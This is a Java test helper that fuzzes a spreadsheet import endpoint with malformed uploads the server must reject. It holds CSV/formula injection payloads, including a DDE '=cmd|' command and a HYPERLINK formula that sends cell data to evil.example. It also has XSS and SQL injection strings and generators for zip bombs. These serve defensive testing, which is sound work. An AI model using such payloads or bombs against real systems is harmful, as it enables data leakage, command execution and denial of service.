package cn.hlj.remoteeval.web;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Files an import endpoint must refuse with a 4xx: truncated or not-a-zip workbooks, random bytes,
 * GBK text where UTF-8 is required, formula cells ({@code =HYPERLINK}, {@code =cmd|...}), zip bombs
 * (a few hundred KB that inflate to hundreds of MB), files over the upload limit. Data rows always
 * carry one cell no import accepts, so that a fuzzed upload never changes the demo data other tests use.
 */
final class FuzzUploads {

    /** The headers of the imports (expert pool, workstation directory, holiday calendar). */
    static final List<List<String>> HEADERS = List.of(
            List.of("姓名", "身份证号", "手机号", "专业代码", "专家类别", "工作单位", "所在地市"),
            List.of("工位编号", "房间", "支持跨省", "音视频设备说明"),
            List.of("date", "kind", "name"));

    private static final List<String> CELLS = List.of("", " ", "张三", "230102199001011234", "13800138000", "A0101",
            "HRB", "2026-10-01", "HOLIDAY", "WORKDAY", "是", "否", "1e308", "-1", "9999999999999999999999",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3",
            "@SUM(A1)", "\"quoted, with comma\"", "line\nbreak", "\u0000", "\uFEFF", "𠀀𠀁", "<script>alert(1)</script>",
            "' OR '1'='1", "x".repeat(5000));

    /** A cell that is never valid in any of the imports' columns. */
    private static final String NEVER_VALID = "=cmd|' /C calc'!A0";

    private final byte[] overLimit;
    private final byte[] spaceBomb;
    private final byte[] rowBomb;
    private final byte[] manyRows;

    /** {@code limitBytes}: the server's upload limit; one file is built just above it. */
    FuzzUploads(long limitBytes) {
        this.overLimit = new byte[(int) Math.min(Integer.MAX_VALUE - 16, limitBytes + 1024)];
        Arrays.fill(overLimit, (byte) 'a');
        this.spaceBomb = bombOfSpaces(200L * 1024 * 1024);
        this.rowBomb = bombOfRows(HEADERS.get(0), 600_000);
        this.manyRows = manyRows(HEADERS.get(0), 210_000);
    }

    /** One named upload: the file name the part carries and its bytes. */
    record Upload(String kind, String fileName, byte[] content) {
    }

    Upload next(Random random) {
        List<String> header = HEADERS.get(random.nextInt(HEADERS.size()));
        // The expensive ones (a bomb, a file over the limit) come once in a while, the cheap ones often.
        int pick = random.nextInt(48);
        return switch (pick < 16 ? pick : pick % 4 == 0 ? 1 : pick % 4 == 1 ? 3 : pick % 4 == 2 ? 4 : 0) {
            case 0 -> new Upload("csv", "t.csv", csv(header, random, StandardCharsets.UTF_8));
            case 1 -> new Upload("csv-gbk", "t.csv", csv(header, random, Charset.forName("GBK")));
            case 2 -> new Upload("csv-utf16", "t.csv", csv(header, random, StandardCharsets.UTF_16));
            case 3 -> new Upload("xlsx", "t.xlsx", xlsx(header, random));
            case 4 -> {
                byte[] whole = xlsx(header, random);
                yield new Upload("xlsx-truncated", "t.xlsx", Arrays.copyOf(whole, random.nextInt(whole.length)));
            }
            case 5 -> new Upload("not-a-zip", "t.xlsx", "PK\u0003\u0004 not a zip at all".getBytes(StandardCharsets.UTF_8));
            case 6 -> new Upload("random-bytes", random.nextBoolean() ? "t.xlsx" : "t.csv", randomBytes(random, 4096));
            case 7 -> new Upload("zip-bomb-spaces", "t.xlsx", spaceBomb);
            case 8 -> new Upload("zip-bomb-rows", "t.xlsx", rowBomb);
            case 9 -> new Upload("over-limit", random.nextBoolean() ? "t.xlsx" : "t.csv", overLimit);
            case 10 -> new Upload("xls", "t.xls", randomBytes(random, 512));
            case 11 -> new Upload("no-extension", "t", csv(header, random, StandardCharsets.UTF_8));
            case 12 -> new Upload("empty", "t.csv", new byte[0]);
            case 13 -> new Upload("csv-long-line", "t.csv",
                    (String.join(",", header) + "\n" + "x".repeat(3 * 1024 * 1024) + "\n").getBytes(StandardCharsets.UTF_8));
            case 14 -> new Upload("csv-unclosed-quote", "t.csv",
                    (String.join(",", header) + "\n\"" + "y".repeat(1000)).getBytes(StandardCharsets.UTF_8));
            default -> new Upload("csv-many-rows", "t.csv", manyRows);
        };
    }

    private static byte[] csv(List<String> header, Random random, Charset charset) {
        StringBuilder text = new StringBuilder(String.join(",", header)).append("\r\n");
        int rows = 1 + random.nextInt(5);
        for (int r = 0; r < rows; r++) {
            List<String> cells = row(header, random);
            List<String> quoted = new ArrayList<>();
            for (String cell : cells) {
                quoted.add(random.nextInt(4) == 0 || cell.contains(",") || cell.contains("\n")
                        ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell);
            }
            text.append(String.join(",", quoted)).append(random.nextBoolean() ? "\r\n" : "\n");
        }
        return text.toString().getBytes(charset);
    }

    private static List<String> row(List<String> header, Random random) {
        List<String> cells = new ArrayList<>();
        int width = header.size() + random.nextInt(3) - 1;
        for (int c = 0; c < width; c++) {
            cells.add(CELLS.get(random.nextInt(CELLS.size())));
        }
        if (cells.isEmpty()) {
            cells.add(NEVER_VALID);
        } else {
            cells.set(random.nextInt(cells.size()), NEVER_VALID);
        }
        return cells;
    }

    private static byte[] manyRows(List<String> header, int rows) {
        StringBuilder text = new StringBuilder(String.join(",", header)).append('\n');
        String line = String.join(",", java.util.Collections.nCopies(header.size(), NEVER_VALID.substring(0, 4))) + "\n";
        text.append(line.repeat(rows));
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] randomBytes(Random random, int max) {
        byte[] bytes = new byte[1 + random.nextInt(max)];
        random.nextBytes(bytes);
        return bytes;
    }

    /** A small workbook of inline strings and formula cells (cached values only), as Excel writes them. */
    private static byte[] xlsx(List<String> header, Random random) {
        StringBuilder sheet = new StringBuilder();
        sheet.append(rowXml(1, header, false));
        int rows = 1 + random.nextInt(5);
        for (int r = 0; r < rows; r++) {
            sheet.append(rowXml(r + 2, row(header, random), random.nextInt(3) == 0));
        }
        return workbook(out -> out.write(sheet.toString().getBytes(StandardCharsets.UTF_8)), Deflater.DEFAULT_COMPRESSION);
    }

    private static String rowXml(int number, List<String> cells, boolean formulas) {
        StringBuilder row = new StringBuilder("<row r=\"" + number + "\">");
        for (int c = 0; c < cells.size(); c++) {
            String ref = column(c) + number;
            String value = xml(cells.get(c));
            if (formulas && value.startsWith("=")) {
                row.append("<c r=\"").append(ref).append("\" t=\"str\"><f>").append(xml(cells.get(c).substring(1)))
                        .append("</f><v>").append(value).append("</v></c>");
            } else {
                row.append("<c r=\"").append(ref).append("\" t=\"inlineStr\"><is><t>").append(value).append("</t></is></c>");
            }
        }
        return row.append("</row>").toString();
    }

    private static String column(int index) {
        return index < 26 ? String.valueOf((char) ('A' + index)) : "A" + (char) ('A' + index - 26);
    }

    private static String xml(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            switch (c) {
                case '<' -> out.append("&lt;");
                case '>' -> out.append("&gt;");
                case '&' -> out.append("&amp;");
                case '"' -> out.append("&quot;");
                default -> {
                    if (c >= 0x20 || c == '\n' || c == '\t') {
                        out.append(c);
                    }
                }
            }
        }
        return out.toString();
    }

    /** The sheet is a header row followed by {@code inflated} bytes of whitespace: about 1:1000. */
    private static byte[] bombOfSpaces(long inflated) {
        return workbook(out -> {
            out.write(rowXml(1, HEADERS.get(0), false).getBytes(StandardCharsets.UTF_8));
            byte[] spaces = new byte[1024 * 1024];
            Arrays.fill(spaces, (byte) ' ');
            for (long written = 0; written < inflated; written += spaces.length) {
                out.write(spaces);
            }
        }, Deflater.BEST_COMPRESSION);
    }

    /** Far more rows than any import takes, each alike: compresses well above POI's default bomb ratio. */
    private static byte[] bombOfRows(List<String> header, int rows) {
        return workbook(out -> {
            out.write(rowXml(1, header, false).getBytes(StandardCharsets.UTF_8));
            for (int r = 2; r <= rows + 1; r++) {
                out.write(("<row r=\"" + r + "\"><c r=\"A" + r + "\" t=\"inlineStr\"><is><t>" + (r % 97)
                        + "</t></is></c><c r=\"B" + r + "\" t=\"inlineStr\"><is><t>x" + r + "</t></is></c></row>")
                        .getBytes(StandardCharsets.UTF_8));
            }
        }, Deflater.BEST_COMPRESSION);
    }

    @FunctionalInterface
    private interface SheetData {
        void write(OutputStream out) throws IOException;
    }

    private static byte[] workbook(SheetData rows, int level) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(level);
            entry(zip, "[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                    + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                    + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                    + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                    + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                    + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                    + "</Types>");
            entry(zip, "_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                    + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                    + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
                    + "</Relationships>");
            entry(zip, "xl/workbook.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                    + "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                    + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                    + "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
            entry(zip, "xl/_rels/workbook.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                    + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                    + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
                    + "</Relationships>");
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write(("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                    + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>")
                    .getBytes(StandardCharsets.UTF_8));
            rows.write(zip);
            zip.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }

    private static void entry(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    /** The workbook of {@link #xlsx} for a given header and rows, for the example-based tests. */
    static byte[] workbook(List<String> header, List<List<String>> rows, boolean formulas) {
        StringBuilder sheet = new StringBuilder(rowXml(1, header, false));
        for (int r = 0; r < rows.size(); r++) {
            sheet.append(rowXml(r + 2, rows.get(r), formulas));
        }
        return workbook(out -> out.write(sheet.toString().getBytes(StandardCharsets.UTF_8)), Deflater.DEFAULT_COMPRESSION);
    }

    byte[] spaceBomb() {
        return spaceBomb;
    }

    byte[] rowBomb() {
        return rowBomb;
    }

    byte[] overLimit() {
        return overLimit;
    }
}
